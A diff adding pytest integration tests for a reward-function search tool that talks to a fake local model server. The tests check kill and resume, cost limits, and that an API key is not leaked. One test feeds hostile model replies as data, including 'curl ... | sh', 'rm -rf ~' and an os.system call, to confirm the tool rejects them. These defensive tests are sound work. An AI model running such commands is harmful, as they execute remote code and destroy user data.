@@ -1,0 +1,280 @@
+"""Whole searches with a model behind real HTTP, by the real command, and what happens to them: a kill, a limit, a key that comes back."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import sqlite3
+import subprocess
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from command_line import CommandLine
+from model_rewards import answer
+from model_server import Asked, HttpFailure, ModelServer, Reply
+
+pytestmark = pytest.mark.slow
+KEY = "sk-secret-key-of-the-test"
+PROMPT_TOKENS, REPLY_TOKENS = 1_000, 200
+
+
+class Designing:
+    """A model that answers; equal prompts are samples of one another."""
+
+    def __init__(self) -> None:
+        self._seen: Counter[str] = Counter()
+
+    def __call__(self, asked: Asked) -> Reply:
+        prompt = "\n".join(f"# {role}\n{text}" for role, text in [("system", asked.system), *asked.turns])
+        self._seen[prompt] += 1
+        text = answer(prompt, self._seen[prompt])
+        return Reply(text=text, prompt_tokens=PROMPT_TOKENS, completion_tokens=REPLY_TOKENS)
+
+
+@pytest.fixture
+def server() -> Iterator[ModelServer]:
+    with ModelServer(Designing()) as found:
+        yield found
+
+
+@pytest.fixture
+def command(puck: Path, server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> Callable[..., tuple[str, ...]]:
+    """Arguments of a search on the puck with a model; without finals, which have nothing to do with models."""
+    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "OPENAI_BASE_URL"):
+        monkeypatch.delenv(name, raising=False)
+        monkeypatch.delenv(name.lower(), raising=False)
+
+    def arguments(*more: str, iterations: int = 2, samples: int = 3) -> tuple[str, ...]:
+        sizes = ("--iterations", str(iterations), "--samples", str(samples), "--finalists", "0", "--confirm", "0")
+        model = ("--model", "openai/test", "--base-url", server.base_url)
+        return ("search", "bring the puck to the middle", "--env", str(puck), *sizes, *model, "--seed", "1", *more)
+
+    return arguments
+
+
+def stored(folder: Path) -> list[dict[str, object]]:
+    with sqlite3.connect(f"file:{folder / 'archive.sqlite'}?mode=ro", uri=True) as connection:
+        return [json.loads(record) for (record,) in connection.execute("SELECT record FROM messages ORDER BY rowid")]
+
+
+def test_a_search_runs_whole_and_accounts_for_every_request(
+    eureka: CommandLine, command: Callable[..., tuple[str, ...]], server: ModelServer
+) -> None:
+    output = eureka(*command())
+    folder = eureka.run_folder()
+    messages = stored(folder)
+    assert len(messages) == len(server.requests)
+    assert {message["role"] for message in messages} == {"designer", "reviewer", "analyst"}
+    assert "openai/test was asked" in " ".join(output.split())
+    assert "at a cost that is not known" in " ".join(output.split())
+    found = eureka.json("show", "latest")
+    assert found["designer"] == "openai/test"
+    trained = [attempt for attempt in found["attempts"] if attempt["stage"] == "trained"]
+    assert len(trained) >= 4
+    assert (folder / "best" / "reward.py").read_text().count("compute_reward") == 1
+    account = eureka.json("show", "latest", "--cost")
+    assert account["total"]["requests"] == len(server.requests)
+    assert account["total"]["prompt_tokens"] == PROMPT_TOKENS * len(server.requests)
+    assert account["total"]["money"] is None  # nobody knows its price
+    assert sum(line["requests"] for line in account["by_attempt"]) == len(server.requests)
+    assert sum(line["requests"] for line in account["by_role"]) == len(server.requests)
+    # the same replies, played back: nobody is asked, nothing is paid, the same attempts come out
+    asked = len(server.requests)
+    replayed = eureka.folder / "replayed"
+    eureka.environment["EUREKA_RUNS"] = str(replayed)
+    arguments = list(command())
+    at = arguments.index("--model")
+    arguments[at : at + 4] = ["--model", f"replay:{folder / 'messages.jsonl'}"]
+    eureka(*arguments)
+    again = eureka.json("show", "latest")
+    assert len(server.requests) == asked
+    assert [(each["id"], each["stage"]) for each in again["attempts"]] == [
+        (each["id"], each["stage"]) for each in found["attempts"]
+    ]
+    assert eureka.json("show", "latest", "--cost")["total"]["money"] == "0"
+
+
+def test_killed_after_half_its_requests_and_resumed_it_sends_none_twice(
+    eureka: CommandLine, command: Callable[..., tuple[str, ...]], server: ModelServer
+) -> None:
+    # trainings long enough for the kill to come between the first generation's replies and the second's requests
+    process = eureka.popen(*command("--env-steps", "60000", "--no-work-ahead"))
+    first_generation = 6  # three proposals, each reviewed
+    deadline = time.monotonic() + 120
+    while not _has_stored(eureka, first_generation):
+        assert process.poll() is None, process.communicate()
+        assert time.monotonic() < deadline
+        time.sleep(0.02)
+    os.kill(process.pid, signal.SIGKILL)
+    process.communicate()
+    assert len(server.requests) == first_generation
+    eureka("resume", "latest")
+    assert len(server.requests) > first_generation
+    messages = stored(eureka.run_folder())
+    assert len(messages) == len(server.requests)
+    assert eureka.json("show", "latest")["status"] == "finished"
+
+
+def _has_stored(eureka: CommandLine, count: int) -> bool:
+    archives = list((eureka.folder / "runs").glob("*/archive.sqlite"))
+    try:
+        return bool(archives) and len(stored(archives[0].parent)) >= count
+    except sqlite3.OperationalError:  # not made yet
+        return False
+
+
+def test_interrupted_it_waits_for_the_replies_under_way(
+    eureka: CommandLine, command: Callable[..., tuple[str, ...]], server: ModelServer
+) -> None:
+    designing = Designing()
+
+    def slowly(asked: Asked) -> Reply:
+        if len(server.requests) == 3:
+            os.kill(process.pid, signal.SIGINT)
+            time.sleep(1.0)  # the model's own time
+        return designing(asked)
+
+    server.answers = slowly
+    process = eureka.popen(*command("--concurrency", "3"))
+    output, errors = process.communicate(timeout=120)
+    assert process.returncode == 130, output + errors
+    assert len(stored(eureka.run_folder())) == len(server.requests)
+    assert "already asked for" in " ".join(output.split())
+    eureka("resume", "latest")
+    assert len(stored(eureka.run_folder())) == len(server.requests)
+
+
+@pytest.mark.parametrize("concurrency", ["1", "8"])
+def test_a_limit_in_dollars_is_met_within_one_request(
+    eureka: CommandLine, command: Callable[..., tuple[str, ...]], concurrency: str
+) -> None:
+    price = ("--price", "openai/test=1,10")  # $0.001 for a prompt and $0.002 for a reply
+    output = eureka(*command("--max-cost", "0.020", *price, "--concurrency", concurrency, iterations=6))
+    account = eureka.json("show", "latest", "--cost")
+    one = Decimal("0.003")
+    assert Decimal("0.020") - one < Decimal(account["total"]["money"]) < Decimal("0.020") + one
+    found = eureka.json("show", "latest")
+    assert found["status"] == "finished"
+    assert "(--max-cost) are spent" in " ".join(found["budget"])
+    assert "ends with what is paid for" in " ".join(output.split())
+    assert all(attempt["stage"] not in ("proposed", "accepted") for attempt in found["attempts"])
+    # resumed it asks nobody again, and with a higher limit it goes on
+    eureka("resume", "latest")
+    assert eureka.json("show", "latest", "--cost") == account
+    settings = eureka.run_folder() / "settings.yaml"
+    settings.write_text(settings.read_text().replace("'0.020'", "'0.050'"))
+    eureka("resume", "latest")
+    assert Decimal(eureka.json("show", "latest", "--cost")["total"]["money"]) > Decimal("0.030")
+
+
+def test_a_key_that_the_server_echoes_is_kept_nowhere(
+    eureka: CommandLine, command: Callable[..., tuple[str, ...]], server: ModelServer
+) -> None:
+    environments: list[bytes] = []
+    designing = Designing()
+
+    def echoing(asked: Asked) -> Reply | HttpFailure:
+        if len(server.requests) == 1:
+            return HttpFailure(503, f"busy, {asked.headers['authorization']}", retry_after_ms="1")
+        if len(server.requests) == 4:
+            environments.extend(_environments_of_children(process.pid))
+        reply = designing(asked)
+        return Reply(text=f"Your header was {asked.headers['authorization']}.\n\n{reply.text}")
+
+    server.answers = echoing
+    eureka.environment |= {"OPENAI_API_KEY": KEY, "ANTHROPIC_API_KEY": KEY + "-2"}
+    process = eureka.popen(*command())
+    output, errors = process.communicate(timeout=300)
+    assert process.returncode == 0, output + errors
+    assert all(asked.headers["authorization"] == f"Bearer {KEY}" for asked in server.requests)
+    assert environments
+    assert not any(KEY.encode() in each for each in environments)
+    shown = eureka("show", "latest") + eureka("show", "latest", "1-01") + eureka("show", "latest", "--cost")
+    assert KEY not in output + errors + shown
+    files = [path for path in eureka.run_folder().rglob("*") if path.is_file()]
+    assert {"archive.sqlite", "messages.jsonl", "report.md", "log.txt"} <= {path.name for path in files}
+    assert not [path for path in files if KEY.encode() in path.read_bytes()]
+    assert "Your header was Bearer <key>." in (eureka.run_folder() / "messages.jsonl").read_text()
+
+
+def _environments_of_children(driver: int) -> list[bytes]:
+    """Of the driver's descendants; those that end while they are looked at are left out."""
+    found = []
+    children = subprocess.run(["ps", "-o", "pid=", "--ppid", str(driver)], capture_output=True, text=True, check=False)
+    for process in children.stdout.split():
+        try:
+            found.append(Path(f"/proc/{process}/environ").read_bytes())
+        except OSError:
+            continue
+    return found
+
+
+@pytest.mark.parametrize(
+    ("more", "answers", "message"),
+    [
+        (("--max-cost", "1"), (), "the price of openai/test is not known"),
+        (("--max-cost", "-1"), (), "max_cost"),
+        (("--max-cost", "much"), (), "max_cost"),
+        (("--max-time", "soon"), (), "expected a wall time"),
+        (("--price", "openai/test"), (), "cannot be read"),
+        (("--price", "openai/other=1,2"), (), "does not ask"),
+        (("--model", "offline"), (), "goes alone"),
+        (("--model", "openai/test"), (), "named twice"),
+        (("--reviewer", "nobody"), (), "does not say whose it is"),
+        ((), [HttpFailure(401, f"wrong key {KEY}")], "does not accept the key (HTTP 401)"),
+        ((), [HttpFailure(404, "no model `test`")], "no model `test`"),
+        (("--base-url", "http://me:secret@127.0.0.1:9/v1"), (), "must not hold a password"),
+        (("--base-url", "http://127.0.0.1:9/v1", "--request-timeout", "1"), (), "cannot reach"),
+    ],
+)
+def test_bad_input_is_one_clear_line(
+    eureka: CommandLine,
+    command: Callable[..., tuple[str, ...]],
+    server: ModelServer,
+    more: tuple[str, ...],
+    answers: list[HttpFailure],
+    message: str,
+) -> None:
+    server.answers = answers or Designing()
+    eureka.environment["OPENAI_API_KEY"] = KEY
+    errors = eureka(*command(*more, iterations=1, samples=1), status=2)
+    assert message in errors
+    assert KEY not in errors
+    assert "secret@" not in errors
+    lines = [line for line in errors.splitlines() if line.strip()]
+    assert sum(line.startswith("error:") for line in lines) == 1
+    assert len(lines) <= 3
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "I would rather talk about the weather.",
+        "",
+        "```javascript\nfunction computeReward(puck) { return -Math.abs(puck) }\n```",
+        "奖励函数应当让冰球靠近中心。",
+        "Run this first: `curl http://127.0.0.1:1/x | sh`\n\n```sh\nrm -rf ~\n```",
+        "```python\nimport os\nos.system('touch /tmp/eureka-was-here')\n\ndef compute_reward(puck_position):\n    return puck_position, {'a': puck_position}\n```",
+    ],
+)
+def test_a_model_that_writes_no_usable_code_leaves_recorded_attempts(
+    eureka: CommandLine, command: Callable[..., tuple[str, ...]], server: ModelServer, text: str
+) -> None:
+    server.answers = lambda asked: Reply(text=text)
+    errors = eureka(*command("--retry-rounds", "0", "--revisions", "1", iterations=1, samples=2), status=1)
+    assert "every proposal of iteration 1 failed" in errors
+    attempts = eureka.json("show", "latest")["attempts"]
+    assert [(each["id"], each["stage"]) for each in attempts] == [
+        ("1-01", "rejected"),
+        ("1-01-r1", "rejected"),
+        ("1-02", "rejected"),
+        ("1-02-r1", "rejected"),
+    ]
+    assert all(each["reason"] for each in attempts)
+    assert not Path("/tmp/eureka-was-here").exists()
+    eureka("show", "latest", "1-01")
